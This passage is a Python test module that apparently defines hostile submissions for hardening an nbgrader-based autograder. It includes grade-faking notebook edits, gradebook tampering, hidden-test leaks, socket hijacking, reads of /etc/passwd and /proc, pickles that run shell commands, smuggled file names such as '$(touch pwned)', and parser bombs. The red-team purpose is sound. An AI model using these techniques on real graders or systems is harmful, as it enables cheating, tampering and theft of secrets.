"""Hostile submissions. Each may earn at most what its real work deserves, and may reach nothing outside its jail.

`SUBMISSIONS` lists them, `write` puts one into a submission folder. What an attack writes to prove that it got
somewhere holds MARKER; what it tells the student about hidden cases follows LEAK.
"""

# ruff: noqa: E501

from __future__ import annotations

import hashlib
import json
import re
import textwrap
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from autodiff_lib.checks import questions
from autodiff_lib.units import UNITS
from grader.book.nbgrader_course import ROOT, cell, solutions

MARKER = "redteam-was-here"
LEAK = "leaked:"
SHAPE_MARK = 4242
"""First size of a shape, or number of copies, that carries a hidden value where text cannot."""

OPS, ENGINE, LM = "01_operators", "02_evaluator", "03_transformer_lm"


@dataclass(frozen=True)
class Hostile:
    """A submission and what it is worth: `honest` has the points that its real work deserves, by exercise."""

    name: str
    what: str
    unit: str
    honest: dict[str, float]
    files: Callable[[], dict[str, bytes]]
    links: dict[str, str] = field(default_factory=dict)
    told: dict[str, float] = field(default_factory=dict)  # what it may earn beyond, if a person is told to look at it
    make: Callable[[Path], None] = lambda folder: None  # what are no files and links


SUBMISSIONS: list[Hostile] = []


def write(hostile: Hostile, folder: Path) -> None:
    """Put a submission into its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in hostile.files().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    for name, target in hostile.links.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    hostile.make(folder)


# --- building notebooks

STUB = re.compile(r"^( *)# YOUR CODE HERE\n *raise NotImplementedError\(.*\)$", re.MULTILINE)


def released(unit: str) -> NotebookNode:
    return nbformat.read(ROOT / "release" / unit / UNITS[unit].notebook, as_version=4)


def filled(unit: str, exercise: str, *bodies: str) -> str:
    """The release's cell of an exercise with these bodies in place of its stubs, the others left."""
    todo = list(bodies)

    def body(match: re.Match[str]) -> str:
        return textwrap.indent(textwrap.dedent(todo.pop(0)).strip("\n"), match[1]) if todo else match[0]

    return STUB.sub(body, cell(released(unit), exercise).source)


def notebook(
    unit: str,
    honest: Iterable[str] = (),
    answers: dict[str, str] | None = None,
    first: str | Iterable[str] = (),
    last: str | Iterable[str] = (),
    short: bool = True,
) -> NotebookNode:
    """The release with attack cells before and after, and some solution cells written: `honest` ones as they should be.

    `short` leaves out the released cells that only show something.
    """
    result = released(unit)
    for exercise in honest:
        cell(result, exercise).source = solutions(unit)[exercise]
    for exercise, text in (answers or {}).items():
        cell(result, exercise).source = text
    if short:
        result.cells = [
            c for c in result.cells if c.cell_type == "code" and ("nbgrader" in c.metadata or "export" in c.metadata.get("tags", []))
        ]
    before, after = ([part] if isinstance(part, str) else list(part) for part in (first, last))
    setup, rest = result.cells[:1], result.cells[1:]
    result.cells = [*setup, *map(attack_cell, before), *rest, *map(attack_cell, after)]
    return result


def attack_cell(text: str) -> NotebookNode:
    return new_code_cell(textwrap.dedent(text).strip("\n"))


def as_bytes(content: NotebookNode) -> bytes:
    return json.dumps(content, indent=1).encode()  # nbformat would mend what is broken on purpose


def add(name: str, what: str, honest: dict[str, float], files: Callable[[], dict[str, bytes]], unit: str = OPS, **more: dict) -> None:
    SUBMISSIONS.append(Hostile(name, what, unit, honest, files, **more))


def attack(
    name: str,
    what: str,
    honest: dict[str, float] | None = None,
    unit: str = OPS,
    extra: Callable[[], dict[str, bytes]] = dict,
    bodies: dict[str, tuple[str, ...]] | None = None,
    links: dict[str, str] | None = None,
    worth: dict[str, float] | None = None,
    told: dict[str, float] | None = None,
    **cells: object,
) -> None:
    """A notebook with the exercises in `honest` done, those in `bodies` filled with hostile bodies, and attack cells.

    `worth` is what the hostile bodies deserve all the same; `told` what values may earn that nobody can tell from somebody's
    own, if a person is told to look.
    """
    honest = {} if honest is None else honest

    def files() -> dict[str, bytes]:
        answers = {exercise: filled(unit, exercise, *texts) for exercise, texts in (bodies or {}).items()}
        return {UNITS[unit].notebook: as_bytes(notebook(unit, honest, answers, **cells)), **extra()}

    SUBMISSIONS.append(Hostile(name, what, unit, {**honest, **(worth or {})}, files, links or {}, told or {}))


DIV = {"div": 3.0}
VALUES = {
    "div": 1,
    "div_by_const": 0.5,
    "transpose": 1,
    "relu": 1,
    "sqrt": 1,
    "power": 1,
    "mean": 1,
    "matmul": 1,
    "softmax": 2,
    "layernorm": 2,
}
ORDER = {"topological_order": 3.0}
ONE_ANSWER = {"sqrt": ("return inputs[0]", "return [output_grad]")}  # something wrong to be asked about


# --- fooling nbgrader


def edited(change: Callable[[NotebookNode], None], unit: str = OPS) -> Callable[[], dict[str, bytes]]:
    """The release with `div` (or `topological_order`) done, then changed."""

    def files() -> dict[str, bytes]:
        result = notebook(unit, DIV if unit == OPS else ORDER, short=False)
        change(result)
        return {UNITS[unit].notebook: as_bytes(result)}

    return files


def checks_of(content: NotebookNode) -> list[NotebookNode]:
    return [c for c in content.cells if c.metadata.get("nbgrader", {}).get("grade")]


def skip_checks(content: NotebookNode) -> None:
    for c in checks_of(content):
        c.metadata["tags"] = ["skip-execution", "raises-exception"]


def double_checks(content: NotebookNode) -> None:
    content.cells = [copy for c in content.cells for copy in ([c] if "nbgrader" not in c.metadata else [c, nbformat.from_dict(c)])]


def rewrite_checks(content: NotebookNode) -> None:
    for c in checks_of(content):
        c.source = f"print('10 of 10 points')\n{c.metadata.nbgrader.points}"
        c.metadata.nbgrader.checksum = "0" * 32


def raise_points(content: NotebookNode) -> None:
    for c in checks_of(content):
        c.metadata.nbgrader.points = 1000
        c.source = "1000"


def delete_checks(content: NotebookNode) -> None:
    content.cells = [c for c in content.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def delete_everything_marked(content: NotebookNode) -> None:
    content.cells = [c for c in content.cells if c.metadata.get("nbgrader", {}).get("grade_id") in (None, "div")]


def unlock_everything(content: NotebookNode) -> None:
    for c in content.cells:
        if marked := c.metadata.get("nbgrader"):
            marked.update(grade=False, solution=False, locked=False, task=False, points=0, schema_version=99)


def swap_ids(content: NotebookNode) -> None:
    """Every check claims to be the one of div."""
    for c in checks_of(content):
        c.metadata.nbgrader.grade_id = "check_div"


def fake_outputs(content: NotebookNode) -> None:
    for c in checks_of(content):
        points = c.metadata.nbgrader.points
        c.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": str(points)}, execution_count=1)]
        c.execution_count = 1


def repeat_div(content: NotebookNode) -> None:
    """Two hundred cells for div, all but the first wrong: the order decides."""
    wrong = filled(OPS, "div", "return inputs[0]", "return [output_grad, output_grad]")
    content.cells += [new_code_cell(wrong) for _ in range(200)]


add("skip_execution", "tags every check cell skip-execution, which nbgrader takes for full marks", DIV, edited(skip_checks))
add("double_checks", "every nbgrader cell twice, which stops nbgrader's grading of everybody after", DIV, edited(double_checks))
add("edited_checks", "check cells that print full marks and return their points", DIV, edited(rewrite_checks))
add("raised_points", "check cells worth 1000 points that return 1000", DIV, edited(raise_points))
add("deleted_checks", "no check cells at all", DIV, edited(delete_checks))
add("deleted_cells", "only the cell of div is left of all nbgrader cells", DIV, edited(delete_everything_marked))
add("unlocked", "every nbgrader cell says that it is neither graded nor a solution, in schema 99", DIV, edited(unlock_everything))
add("one_id", "every check cell has the grade_id of the check of div", DIV, edited(swap_ids))
add("fake_outputs", "stored outputs say that every check gave full marks", DIV, edited(fake_outputs))
add("repeated_answer", "a right cell for div, then two hundred wrong ones", {}, edited(repeat_div))

attack(
    "run_ast_nodes",
    "replaces InteractiveShell.run_ast_nodes, so that failing cells count as run",
    DIV,
    bodies=ONE_ANSWER,
    first="""
        from IPython.core.interactiveshell import InteractiveShell

        async def run_ast_nodes(self, *args, **kwargs):
            return False

        InteractiveShell.run_ast_nodes = run_ast_nodes
    """,
)
attack(
    "displayhook_first",
    "hands full marks to the display hook, and prints them, before anything fails",
    DIV,
    bodies={"sqrt": ("get_ipython().displayhook(2)\nprint('2 of 2 points')\nassert False",)},
    last="get_ipython().displayhook(100)\nassert False",
)
attack(
    "nbgrader_execution",
    "behaves only where it is graded: NBGRADER_EXECUTION, JAILED or no display",
    DIV,
    first="""
        import os
        import sys

        if "NBGRADER_EXECUTION" in os.environ or "JAILED" in os.environ:
            from autodiff_lib.checks import compare, judge
            from autodiff_lib.kinds.operator import judge as operators
            compare.agree = operators.agree = lambda *args: True
            judge.judge_part = lambda part, answer: judge.PartVerdict(part.name, part.points, part.points, 1, 1, None)
    """,
    bodies=ONE_ANSWER,
)
attack(
    "caller_frames",
    "reads whatever is called expected, want or case in the frames of its callers, and returns it",
    DIV,
    bodies={
        "sqrt": (
            """
            import sys
            frame = sys._getframe()
            while frame is not None:
                for name in ("expected", "want", "wanted", "answer"):
                    if name in frame.f_locals:
                        return torch.as_tensor(frame.f_locals[name])
                if "case" in frame.f_locals:
                    from autodiff_lib.kinds import reference
                    return reference.apply("sqrt", inputs, {})
                frame = frame.f_back
            return inputs[0]
            """,
        )
    },
)
attack(
    "last_cell_source",
    "prints what In, Out, the shell's history and its namespace hold of tests",
    DIV,
    bodies={
        "sqrt": (
            f"""
            shell = get_ipython()
            seen = [text for text in shell.user_ns["In"] if "hidden" in text.lower() and "{LEAK}" not in text]
            raise ValueError(f"{LEAK} {{len(seen)}} {{seen[-1:]}}" if seen else "nothing to see")
            """,
        )
    },
    last="print([text for text in In if 'HIDDEN TESTS' in text and 'In if' not in text])",
)

# --- reaching the course tree

attack(
    "gradebook",
    "writes to gradebook.db, found upwards and by its absolute path, with sqlite3",
    DIV,
    first=f"""
        import os
        import sqlite3

        places = [os.path.join(*[".."] * up, "gradebook.db") for up in range(1, 7)]
        for place in [*places, "{ROOT}/gradebook.db", "/gradebook.db"]:
            try:
                connection = sqlite3.connect(f"file:{{place}}?mode=rw", uri=True, timeout=1)
                connection.execute("create table if not exists redteam (text)")
                connection.execute("insert into redteam values ('{MARKER}')")
                connection.execute("update grade set manual_score = 100, needs_manual_grade = 0")
                connection.commit()
                print("{MARKER}", place)
            except sqlite3.Error:
                pass
    """,
)
attack(
    "gradebook_url",
    "opens the gradebook through nbgrader's own API",
    DIV,
    first=f"""
        try:
            from nbgrader.api import Gradebook
            with Gradebook("sqlite:///{ROOT}/gradebook.db") as gradebook:
                gradebook.update_or_create_student("{MARKER}", first_name="{MARKER}")
                print("{MARKER}")
        except Exception as error:
            print(type(error).__name__)
    """,
)
attack(
    "read_source",
    "looks for source/, the grader's code and solutions upwards and by absolute path, and prints them",
    DIV,
    first=f"""
        from pathlib import Path

        places = [Path(*[".."] * up) for up in range(7)] + [Path("{ROOT}"), Path("/work"), Path("/"), Path("/units")]
        for place in places:
            for name in ("source", "grader", "submitted", "autograded", "feedback", "gradebook.db", ".git", "tests"):
                if (place / name).exists():
                    print("{LEAK} 1", place / name)
            for path in (place / "source").rglob("*.ipynb"):
                print("{LEAK} 2", path.read_text()[:2000])
    """,
)
attack(
    "other_submissions",
    "writes into submitted/ and feedback/ of others, upwards and by absolute path",
    DIV,
    first=f"""
        from pathlib import Path

        for place in [*(Path(*[".."] * up) for up in range(7)), Path("{ROOT}")]:
            for folder in ("submitted", "feedback", "source", "release", "autograded", "grader", "autodiff_lib"):
                try:
                    (place / folder / "{MARKER}").write_text("{MARKER}")
                    print("{MARKER}", place / folder)
                except OSError:
                    pass
    """,
)
attack(
    "library_overwritten",
    "overwrites the library and the site-packages where they lie",
    DIV,
    first=f"""
        import os
        import sys
        import autodiff_lib.checks.compare as compare
        import numpy

        for path in (compare.__file__, numpy.__file__, sys.executable, "/inmate.py", "/etc/passwd"):
            try:
                os.chmod(path, 0o777)
            except OSError:
                pass
            try:
                with open(path, "a") as file:
                    file.write("# {MARKER}")
                print("{MARKER}", path)
            except OSError:
                pass
        for folder in [*sys.path, "/", "/home", "/usr", "/etc", "/work", "/units", "/dev", "/var"]:
            try:
                with open(os.path.join(folder, "{MARKER}.py"), "w") as file:
                    file.write("{MARKER} = 1")
                print("{MARKER}", folder) if folder != os.getcwd() else None
            except OSError:
                pass
    """,
)

# --- files that come along

SHADOW = f"""
import sys
open("/tmp/{MARKER}", "w").write("{MARKER}")
def __getattr__(name):
    return lambda *args, **kwargs: True
"""


def shadows(*names: str) -> Callable[[], dict[str, bytes]]:
    return lambda: {name: SHADOW.encode() for name in names}


attack("shadow_numpy", "a numpy.py in the submission, whose every function returns True", DIV, bodies=ONE_ANSWER, extra=shadows("numpy.py"))
attack(
    "shadow_torch",
    "a torch.py and a torch folder in the submission",
    DIV,
    bodies=ONE_ANSWER,
    extra=shadows("torch.py", "torch/__init__.py"),
)
attack(
    "shadow_library",
    "an autodiff_lib folder in the submission, with checks that pass everything",
    DIV,
    bodies=ONE_ANSWER,
    extra=shadows("autodiff_lib/__init__.py", "autodiff_lib/checks/__init__.py", "autodiff_lib/checks/compare.py", "grader/__init__.py"),
)
attack(
    "startup_files",
    "sitecustomize, IPython start-up files, matplotlibrc and a .pth file in the submission",
    DIV,
    bodies=ONE_ANSWER,
    extra=shadows(
        "sitecustomize.py",
        "usercustomize.py",
        ".ipython/profile_default/startup/00.py",
        ".ipython/profile_default/ipython_config.py",
        ".config/matplotlib/matplotlibrc",
        ".local/lib/python3.11/site-packages/evil.pth",
        "nbgrader_config.py",
        "jupyter_config.py",
        "conftest.py",
    ),
)
attack(
    "links_out",
    "symbolic links out of the folder, to files, folders, itself, and a notebook that is a link",
    DIV,
    links={
        "data": "../../../source",
        "gradebook.db": "../../../gradebook.db",
        "environ": "/proc/self/environ",
        "passwd": "/etc/passwd",
        "again": ".",
        "zero": "/dev/zero",
        "solution.ipynb": "../../../source/01_operators/operators.ipynb",
        "solved.ipynb": str(ROOT / "source" / OPS / UNITS[OPS].notebook),
        "nowhere": "nowhere",
    },
    first=f"""
        import os

        for name in ("data", "gradebook.db", "environ", "passwd", "solution.ipynb", "solved.ipynb"):
            if os.path.exists(name):
                print("{LEAK} 1", name, open(name, errors="replace").read(300) if os.path.isfile(name) else os.listdir(name))
    """,
)
add(
    "notebook_link",
    "the notebook itself is a symbolic link to the source with all solutions",
    {},
    lambda: {"readme.txt": b"see the notebook"},
    links={UNITS[OPS].notebook: str(ROOT / "source" / OPS / UNITS[OPS].notebook)},
)
attack(
    "odd_names",
    "file names with dots, backslashes, newlines, bytes that are no UTF-8, and 250 characters",
    DIV,
    extra=lambda: {
        name: MARKER.encode()
        for name in (
            "..\\..\\..\\gradebook.db",
            "...",
            "..hidden/..more/x.py",
            "%2e%2e%2fgradebook.db",
            "a\nb.txt",
            "bad\udcff.txt",
            "x" * 250,
            "-rf",
            "$(touch pwned)",
            "deep/" * 60 + "x",
        )
    },
)
add(
    "odd_notebook_name",
    "the notebook's name is no UTF-8, and a file too large to take has such a name too",
    DIV,
    lambda: {"oper\udcffators.ipynb": as_bytes(notebook(OPS, DIV)), "big\udcff.bin": b"\0" * (3 * 2**20)},
)
attack(
    "timestamp",
    "a timestamp.txt of nonsense, which nbgrader parses as a date",
    DIV,
    extra=lambda: {"timestamp.txt": b"the day before yesterday\xff\xfe"},
)
attack("huge_file", "a file of 30 MiB, and three hundred small ones", DIV, extra=lambda: {
    "huge.bin": b"\0" * (30 * 2**20),
    **{f"small/{number}.txt": b"x" for number in range(300)},
})  # fmt: skip
attack(
    "pickles",
    "pickles, .npy and .pt files that write a marker when loaded",
    DIV,
    extra=lambda: {
        name: f"cposix\nsystem\n(S'touch /tmp/{MARKER}; touch {ROOT}/{MARKER}'\ntR.".encode()
        for name in ("answer.pkl", "model.pt", "weights.npy", "cache/state.pickle")
    },
)

# --- notebooks that break whoever reads them


def raw(content: Callable[[], bytes]) -> Callable[[], dict[str, bytes]]:
    return lambda: {UNITS[OPS].notebook: content()}


def with_raw(change: Callable[[dict], None]) -> Callable[[], dict[str, bytes]]:
    """The release with div done, as a dictionary, changed in ways that nbformat would refuse."""

    def content() -> bytes:
        plain = json.loads(as_bytes(notebook(OPS, DIV)))
        change(plain)
        return json.dumps(plain).encode()

    return raw(content)


def odd_metadata(plain: dict) -> None:
    for number, c in enumerate(plain["cells"]):
        if "nbgrader" in c["metadata"]:
            c["metadata"]["nbgrader"]["grade_id"] = [["check_div"], {"a": 1}, None, 7][number % 4]
            c["metadata"]["nbgrader"]["points"] = "NaN"


def odd_types(plain: dict) -> None:
    plain["nbformat"], plain["nbformat_minor"] = True, [5]
    plain["metadata"]["kernelspec"] = {"name": ["python3"], "language": 7}
    for number, c in enumerate(plain["cells"]):
        c["id"] = number
        c["metadata"]["tags"] = 5
    plain["cells"] += [None, 7, [], {"source": None}, {"source": {"a": 1}, "cell_type": []}, {"cell_type": "code", "source": [1, None]}]


def old_sheets(plain: dict) -> None:
    plain["worksheets"] = [None, {"cells": None}, {"cells": 5}, {"cells": [None]}]
    del plain["cells"]


def surrogates(plain: dict) -> None:
    plain["cells"].append(
        {"cell_type": "code", "source": "text = '\ud800'\nprint(text)\ntext", "metadata": {}, "outputs": [], "id": "\udfff"}
    )
    plain["metadata"]["kernelspec"]["name"] = "\ud800"


def many_cells(plain: dict) -> None:
    plain["cells"] += [{"cell_type": "code", "source": "1", "metadata": {}, "outputs": []} for _ in range(50_000)]


def space_bomb(plain: dict) -> None:
    plain["cells"].append({"cell_type": "code", "source": "check()" + " \n" * 40_000 + "x", "metadata": {}, "outputs": []})


def import_bomb(plain: dict) -> None:
    lines = "\n".join(f"import m{number}" for number in range(30_000))
    plain["cells"] += [{"cell_type": "code", "source": lines, "metadata": {}, "outputs": []} for _ in range(3)]


def parser_bomb(plain: dict) -> None:
    for text in (
        "x" + ".a" * 200_000,
        "(" * 5000,
        "-" * 200_000 + "1",
        "x = " + "[" * 150 + "]" * 150,
        "9" * 5000,
        "lambda: " * 50_000 + "0",
        "\0",
    ):
        plain["cells"].append({"cell_type": "code", "source": text, "metadata": {}, "outputs": []})
        plain["cells"].append({"cell_type": "code", "source": "    " + text, "metadata": {}, "outputs": []})


def broken_json() -> bytes:
    return b'{"cells": [' + b'{"cell_type": "code"},' * 150_000 + as_bytes(notebook(OPS, DIV))[:-1]


add("odd_metadata", "grade_ids that are lists, dictionaries, numbers and null", DIV, with_raw(odd_metadata))
add("odd_types", "values of the wrong type everywhere in the notebook's JSON", DIV, with_raw(odd_types))
add("old_sheets", "worksheets of format 3 whose cells are null, numbers and nothing", {}, with_raw(old_sheets))
add(
    "surrogates",
    "half characters in a source, a cell id, an output and the kernel's name: no encoding can write them",
    DIV,
    with_raw(surrogates),
)
add("many_cells", "fifty thousand cells", DIV, with_raw(many_cells))
add("space_bomb", "a check cell with eighty thousand blanks: quadratic for a regular expression", DIV, with_raw(space_bomb))
add("import_bomb", "ninety thousand unused imports", DIV, with_raw(import_bomb))
add("parser_bomb", "sources that are nested too deeply for Python's parser", DIV, with_raw(parser_bomb))
add("broken_json", "broken JSON with 150 000 empty cells to save before the real ones", DIV, raw(broken_json))
add("nested_json", "a million nested lists in place of a notebook", {}, raw(lambda: b'{"cells": ' + b"[" * 10**6))
add("empty_lists", "a notebook whose metadata is five million empty lists", {}, raw(
    lambda: b'{"cells": [], "nbformat": 4, "metadata": [' + b"[]," * (5 * 10**6) + b"1]}"
))  # fmt: skip

# --- hidden cases: seeing them, telling about them


def digest(array: np.ndarray) -> str:
    return hashlib.sha256(array.tobytes()).hexdigest()[:12]


PUBLIC = {digest(case.ask().arrays[0]) for question in questions(OPS).values() for case in question.parts[0].cases}
KNOWN = f"""
    import hashlib

    class Shown(set):
        kept = [[0]]

    shown = Shown({sorted(PUBLIC)})

    def digest(array):
        return hashlib.sha256(array.tobytes()).hexdigest()[:12]

    def is_shown(a):
        return digest(a.numpy()) in shown
"""
attack(
    "leak_printed",
    "prints hidden inputs, and answers those wrongly",
    DIV,
    first=KNOWN,
    bodies={"sqrt": (f"if is_shown(inputs[0]):\n    return inputs[0] ** 0.5\nprint('{LEAK}', inputs[0].tolist())\nreturn inputs[0]",)},
)
attack(
    "leak_raised",
    "raises what it is asked as the text of an exception, on hidden cases only",
    DIV,
    first=KNOWN,
    bodies={"sqrt": (f"if is_shown(inputs[0]):\n    return inputs[0] ** 0.5\nraise ValueError('{LEAK} ' + str(inputs[0].tolist()))",)},
)
attack(
    "leak_not_implemented",
    "raises what it is asked as NotImplementedError, as an exercise does that is not done yet, on hidden cases only",
    DIV,
    first=KNOWN,
    bodies={
        "sqrt": (f"if is_shown(inputs[0]):\n    return inputs[0] ** 0.5\nraise NotImplementedError('{LEAK} ' + str(inputs[0].tolist()))",)
    },
)
attack(
    "leak_system_exit",
    "ends with SystemExit, KeyboardInterrupt and an exception class whose name holds a hidden value",
    DIV,
    first=KNOWN,
    bodies={
        "sqrt": (f"if is_shown(inputs[0]):\n    return inputs[0] ** 0.5\nraise SystemExit('{LEAK} ' + str(inputs[0].tolist()))",),
        "relu": (
            f"""
            if is_shown(inputs[0]):
                return inputs[0] * (inputs[0] > 0)
            raise type("{LEAK} " + str(inputs[0].tolist()), (Exception,), {{}})
            """,
        ),
    },
)
attack(
    "leak_shape",
    f"answers hidden cases with an array of no entries and the shape [{SHAPE_MARK}, hidden digits, 0], for a hint to repeat",
    DIV,
    first=KNOWN,
    bodies={
        "sqrt": (
            f"""
            if is_shown(inputs[0]):
                return inputs[0] ** 0.5
            digits = int(abs(float(inputs[0].flatten()[0])) * 1e6)
            return torch.empty({SHAPE_MARK}, digits, 0, dtype=inputs[0].dtype)
            """,
        )
    },
)
attack(
    "leak_factor",
    "answers hidden cases with the right value times four hidden digits, for a hint to repeat the factor",
    DIV,
    first=KNOWN,
    bodies={
        "sqrt": (
            """
            if is_shown(inputs[0]):
                return inputs[0] ** 0.5
            return inputs[0] ** 0.5 * (1000 + int(abs(float(inputs[0].flatten()[0])) * 1e4) % 9000)
            """,
        )
    },
)
attack(
    "leak_after_crash",
    "writes what it is asked to disk and dies; run again, its first cell prints what it finds there",
    DIV,
    first=f"""
        import glob

        for path in glob.glob("/tmp/asked*") + glob.glob("/dev/shm/asked*") + glob.glob("asked*"):
            print("{LEAK}", open(path).read())
    """
    + textwrap.indent(KNOWN, " " * 4),
    bodies={
        "sqrt": (
            """
            if is_shown(inputs[0]):
                return inputs[0] ** 0.5
            import os
            for place in ("/tmp/asked", "/dev/shm/asked", "asked"):
                with open(place, "a") as file:
                    file.write(str(inputs[0].tolist()))
            os._exit(0)
            """,
        )
    },
    last=f"""
        import glob

        for path in glob.glob("/tmp/asked*") + glob.glob("/dev/shm/asked*") + glob.glob("asked*"):
            raise RuntimeError("{LEAK} " + open(path).read())
    """,
)
attack(
    "leak_patched_probe",
    "wraps probe.run to record hidden arrays, then raises and prints the lot in later answers",
    DIV,
    first=f"""
        from autodiff_lib.checks import probe
        from dataclasses import replace

        asked, run = [], probe.run

        def recording(ask):
            if ask.arrays and digest(ask.arrays[0]) not in shown:
                asked.extend(array.tolist() for array in ask.arrays)
            answer = run(ask)
            return replace(answer, printed="{LEAK} " + str(asked)[-9000:])

        probe.run = recording
    """
    + textwrap.indent(KNOWN, " " * 4),
    bodies={"sqrt": (f"raise ValueError('{LEAK} ' + str(asked)[-5000:])",)},
)
attack(
    "leak_in_public_case",
    "keeps what hidden cases of one exercise ask, and tells it in the public cases of the next ones: text, problems, answers",
    DIV,
    first=KNOWN,
    bodies={
        "transpose": (
            """
            if not is_shown(inputs[0]):
                shown.kept = inputs[0].tolist()
            return inputs[0].transpose(node.dim0, node.dim1)
            """,
        ),
        "relu": (f"raise ValueError(f'{LEAK} {{shown.kept}}')", f"raise NotImplementedError(f'{LEAK} {{shown.kept}}')"),
        "sqrt": (f"print('{LEAK}', shown.kept)\nreturn inputs[0]", f"return f'{LEAK} {{shown.kept[0][0]}}'"),
    },
    worth={"transpose": 1.0},
)
attack(
    "leak_from_memory",
    "searches gc.get_objects and all frames for cases, questions and other people's arrays, and raises them",
    DIV,
    bodies={
        "sqrt": (
            f"""
            import gc
            import sys
            found = [case for case in gc.get_objects() if getattr(type(case), "__name__", "") in ("ComputeCase", "GraphCase")]
            hidden = [case for case in found if case.seed != "public"]
            frames = [str(frame.f_locals.get("expected")) for frame in sys._current_frames().values()]
            secrets = [text for text in frames if text != "None"] + [case.name for case in hidden]
            raise ValueError(f"{LEAK} {{len(secrets)}} {{secrets}}" if secrets else "nothing found")
            """,
        )
    },
)
attack(
    "leak_proc",
    "reads environment, command line, memory and open files of every process in /proc",
    DIV,
    first=f"""
        import os

        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("environ", "mem", "maps"):
                try:
                    text = open(f"/proc/{{pid}}/{{name}}", "rb").read(100_000).decode(errors="replace")
                    if "AUTODIFF_SECRET" in text or "gradebook" in text or "hidden" in text:
                        print("{LEAK} 1", pid, name, text[:200])
                except OSError:
                    pass
            try:
                for fd in os.listdir(f"/proc/{{pid}}/fd"):
                    if int(pid) != os.getpid():
                        print("{LEAK} 2", pid, os.readlink(f"/proc/{{pid}}/fd/{{fd}}"))
            except OSError:
                pass
        print("{LEAK} 3" if "AUTODIFF_SECRET" in os.environ else "no secret")
    """,
)
attack(
    "guess_secret",
    "draws the hidden cases from the default secret and prints how many of the asked ones it foresaw",
    DIV,
    first="""
        from dataclasses import replace

        from autodiff_lib.units.operators.questions import questions

        hidden = {replace(case, seed="hidden").ask().arrays[0].tobytes() for q in questions() for case in q.parts[0].cases}
        print("foreseen:", len(hidden))
    """,
    bodies={
        "sqrt": (
            f"""
            if inputs[0].numpy().tobytes() in hidden:
                raise NotImplementedError("{LEAK} 1 the default secret is in use")
            return inputs[0]
            """,
        )
    },
)
attack(
    "units_folder",
    "looks for the reference solutions of the unit before, which were once there for follow-through",
    ORDER,
    unit=ENGINE,
    last=f"""
        import os
        from pathlib import Path

        for path in Path("/units").rglob("*.ipynb"):
            text = path.read_text()
            print("{LEAK} 1", path, text[text.find("BEGIN SOLUTION"):][:500] if "BEGIN SOLUTION" in text else "")
    """,
)

# --- the channel: forged messages and answers

MINE = """
    class reference:
        def forward():
            return {
                "add": torch.add, "add_by_const": lambda a, c: a + c, "sub": torch.sub, "mul": torch.mul, "mul_by_const": lambda a, c: a * c,
                "greater": lambda a, b: (a > b).to(a.dtype), "sum_op": torch.sum, "exp": torch.exp, "log": torch.log,
                "unbroadcast": lambda a, like: a.sum_to_size(like.shape), "expand_as": lambda a, like, dim: a.unsqueeze(dim).expand(like.shape),
                "zeros_like": torch.zeros_like, "ones_like": torch.ones_like,
                "div": torch.div, "div_by_const": lambda a, c: a / c, "transpose": torch.transpose, "relu": torch.relu, "sqrt": torch.sqrt,
                "power": lambda a, exponent: a**exponent, "mean": torch.mean, "matmul": torch.matmul, "softmax": torch.softmax,
                "layernorm": lambda a, normalized_shape, eps: torch.nn.functional.layer_norm(a, normalized_shape, eps=eps),
            }

        def apply(operator, inputs, attrs):
            return reference.forward()[operator](*inputs, **attrs)
"""
"""Values of all operators, as somebody writes them at home: the library's own are not there while grading."""

GRAB = """
    import io
    import json
    import os
    import signal
    import socket
    import stat
    import struct

    import numpy as np
    from autodiff_lib.checks import probe, wire
    from autodiff_lib.checks.question import Answer, Ask

    number = 0
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                channel = socket.socket(fileno=os.dup(fd))
                break
        except OSError:
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)

    def ran(number, **more):
        wire.send(channel, wire.pack({"number": number, "status": "ok", "outputs": [], **more}))

    def header(number, **more):
        return {"number": number, "graph": None, "facts": {}, "problem": None, "printed": "", **more}

    def serve(answer):
        ran(number)
        while True:
            asked, arrays = wire.unpack(wire.receive(channel))
            if asked["do"] == "cell":
                ran(asked["number"])
            elif asked["do"] == "ask":
                wire.send(channel, answer(asked, arrays))
"""


def grab(text: str) -> str:
    return textwrap.dedent(MINE) + textwrap.dedent(GRAB) + textwrap.dedent(text)


attack(
    "channel_reference",
    "takes the channel over and answers every compute with the library's reference, every gradient with zeros",
    told=VALUES,
    bodies=ONE_ANSWER,
    first=grab(
        """
        def answer(asked, arrays):
            settings = asked["settings"]
            op = probe.table[settings["operator"]]
            if asked["probe"].endswith(":compute"):
                attrs = {**op.signature.attrs, **settings["attrs"]}
                attrs = {key: tuple(value) if isinstance(value, list) else value for key, value in attrs.items()}
                value = reference.apply(settings["operator"], [torch.tensor(array) for array in arrays], attrs).contiguous().numpy()
                return wire.pack_answer(Answer((value, value), facts={"changed": []}), asked["number"])
            count = len(op.signature.operands)
            nodes = [{"leaf": leaf} for leaf in range(count + 1)]
            nodes += [{"op": "zeros_like", "inputs": [leaf], "attrs": {}} for leaf in range(count)]
            return wire.pack(header(asked["number"], graph={"nodes": nodes, "outputs": [count + 1 + leaf for leaf in range(count)]}))

        serve(answer)
        """
    ),
)
attack(
    "channel_fake_ok",
    "finds the socket among the open files and reports fifty cells as run, with outputs of its own, before they are",
    DIV,
    first="""
        import json
        import os
        import stat
        import struct

        for fd in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    break
            except OSError:
                pass
        output = {"output_type": "execute_result", "data": {"text/plain": "100"}, "metadata": {}}
        for number in range(50):
            part = json.dumps({"number": number, "status": "ok", "outputs": [output], "arrays": 0}).encode()
            body = struct.pack("<Q", len(part)) + part
            os.write(fd, struct.pack("<Q", len(body)) + body)
    """,
)
attack(
    "channel_stale",
    "answers each question twice, so that every later answer is one to the question before",
    DIV,
    first="""
        from autodiff_lib.checks import wire

        once = wire.send

        def twice(channel, message):
            once(channel, message)
            once(channel, message)

        wire.send = twice
    """,
)
attack("channel_closed", "closes every open file, the channel among them", DIV, last="import os\nos.closerange(3, 4096)")
attack("channel_silent", "takes the channel over, reports its cells as run and never answers a question", first=grab(
    """
    import time

